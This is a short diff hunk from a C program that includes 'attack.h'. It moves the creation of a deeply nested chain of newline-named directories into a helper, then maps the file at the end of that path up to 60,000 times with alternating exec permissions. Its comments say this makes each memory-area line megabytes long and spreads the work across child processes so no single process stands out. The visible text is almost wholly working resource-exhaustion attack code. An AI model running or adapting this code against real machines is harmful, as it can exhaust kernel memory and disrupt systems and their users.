@@ -3,13 +3,7 @@
 // A path may be as long as there are folders: megabytes of it in every line about an area.
 #include "attack.h"
 int main() {
-  char name[256];
-  memset(name, '\n', 255);
-  name[255] = 0;
-  while (mkdir(name, 0700) == 0 && chdir(name) == 0) {}
-  int f;
-  while ((f = open("f", O_RDWR | O_CREAT, 0600)) < 0 && chdir("..") == 0) rmdir(name);
-  ftruncate(f, 4096);
+  int f = open_at_longest_path();
   for (int i = 0; i < 60000; i++)
     if (mmap(NULL, 4096, PROT_READ | (i & 1 ? PROT_EXEC : 0), MAP_PRIVATE, f, 0) == MAP_FAILED) break;
   /* Children, one after another, so that no process has used much. */
